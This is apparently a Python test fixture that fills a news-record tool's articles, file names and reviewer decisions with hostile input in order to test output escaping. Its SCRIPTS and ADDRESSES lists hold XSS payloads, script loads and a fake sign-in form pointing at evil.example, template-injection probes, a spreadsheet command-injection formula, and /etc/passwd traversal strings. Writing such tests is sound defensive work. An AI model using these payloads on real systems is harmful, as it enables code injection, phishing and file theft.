"""Articles, decisions and names of people who want something to run in who reads them: our own writing."""

from pathlib import Path

from onrecord import api
from onrecord.pipeline import Pipeline
from support import json_lines

PRODUCT = str(7191 * 7193)
"""What a page says only if a template was run on what an article says."""
SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">here</a>',
    "<style>body{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "</title></textarea></style></noscript><details open ontoggle=alert(1)>",
    "{{ 7191 * 7193 }}{% raw %}${7191*7193}<%= 7191*7193 %>",
    "\u202egnp.exe\u2066\u2069\x00\x08\x1b[31m",
    "=cmd|' /C calc'!A0",
    "--></script><!--",
    "]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff\u200b\u2028\u2029",
    "\U000e0041\ufffe",
    "W" * 1_000,
    "ב\u200fא " * 20,
    "../../../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/?q=<script>alert(1)</script>",
    "//evil.example/x",
    "https://user:pass@a.example\\@evil.example/",
    "file:///etc/passwd",
)


def documents() -> list[dict[str, str]]:
    """An article for each piece: it stands in the title, the outlet, the address, the names and the words of each entry."""
    return [
        {
            "id": f"hostile-{number}{piece if len(piece) < 40 else ''}",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "published": f"2024-03-{number % 27 + 1:02}",
            "publisher": f"Wire {piece}"[:200],
            "title": f"Ministers met {piece}",
            "authors": f"Ana {piece}"[:200],
            "text": f"Foreign Minister Ada Lind met Mayor Rosa Vidal {piece} in Geneva on Monday.\n\n"
            f"“The ferry line will open in May {piece},” said Ada Lind.\n\n"
            f"Ada Lind agreed to send {number + 3} million euros {piece} to the port.\n\n"
            f"Some {number + 1},000 fishing boats {piece} crossed the strait in February, officials said.\n\n"
            f"The ministry of {piece} suspended the fishing permit on Tuesday.\n\n"
            f"{piece}\n\nAbout 300 people {piece} marched from Geneva to Lyon.\n",
        }
        for number, piece in enumerate(SCRIPTS)
    ]


def hostile_record(folder: Path, pipeline: Pipeline) -> Path:
    """The record of these articles, with decisions that are as hostile, and what could not be read."""
    record = folder / "hostile.db"
    api.init(record)
    (folder / "unread <img src=x onerror=alert(1)>.docx").write_bytes(b"PK\x03\x04")
    lines = json_lines(folder / "hostile.jsonl", documents())
    api.add(
        record, [lines, folder / "unread <img src=x onerror=alert(1)>.docx"], pipeline=pipeline, by="<svg onload=alert(1)>"
    )
    entries = [one.id for one in api.open(record).entries]
    for id_, piece in zip(entries, SCRIPTS[:8], strict=False):
        api.accept(record, id_, by=f"Ben {piece}"[:60], why=f"because {piece}")
    of_figures = [one for one in entries if one.startswith("figure")]
    for id_, piece in zip(of_figures, SCRIPTS[:8], strict=False):
        api.edit(record, id_, "counted", f"boats {piece}", by="Ana Ruiz", why=piece)
    api.reject(record, next(one for one in entries if one.startswith("statement")), by="'\"><script>alert(1)</script>")
    return record
